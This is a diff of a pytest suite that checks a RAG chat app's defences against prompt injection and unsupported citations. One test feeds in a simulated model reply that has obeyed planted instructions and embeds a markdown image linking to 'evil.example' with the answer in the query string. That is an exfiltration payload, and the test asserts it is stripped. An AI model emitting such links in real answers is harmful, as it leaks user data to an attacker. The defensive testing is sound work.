@@ -10,10 +10,9 @@ from pathlib import Path
 import pytest
 from streamlit.testing.v1 import AppTest
 
-from rag import prompts
 from rag.config import Config
 from rag.engine import RAGEngine
-from rag.types import AnswerResponse, AnswerToken, DocumentStatus, Verdict
+from rag.types import AnswerResponse, AnswerToken, DocumentStatus, Support
 from rag.ui.chat.answer import answer_html, source_rows
 from rag.ui.formatting import render
 from tests import pdfs, vendors
@@ -211,17 +210,17 @@ def test_a_model_that_repeats_the_document_shows_none_of_it(desk: Desk, kind: st
 @cases
 def test_a_model_that_obeys_is_not_believed(desk: Desk, kind: str, suffix: str) -> None:
     shown, response = desk.ask(kind, suffix, "What is the answer?", reply="42 [S9]. ![done](http://evil.example/?q=42)")
-    assert response.status == "insufficient_context"
-    assert response.answer == prompts.INSUFFICIENT_CONTEXT_MESSAGE
-    assert response.citations == ()
+    assert "evil.example" not in response.answer
+    assert {sentence.support for sentence in response.sentences} <= {Support.QUOTED}
     assert_clean(shown, known=set())
 
 
 @pytest.mark.parametrize("suffix", FORMATS)
 def test_an_order_with_a_known_id_is_still_checked(desk: Desk, suffix: str) -> None:
     _, response = desk.ask("active", suffix, "What does the day cost?", reply="The fee for moorage is 42 francs [S1].")
-    assert {citation.verdict for citation in response.citations} <= {Verdict.UNVERIFIED}
-    assert all(citation.unsupported_numbers == ("42",) for citation in response.citations)
+    written = [sentence for sentence in response.sentences if sentence.support is not Support.QUOTED]
+    assert Support.SUPPORTED not in {sentence.support for sentence in written}
+    assert "42 francs" not in response.answer or {c.unsupported_numbers for c in response.citations} == {("42",)}
 
 
 @cases
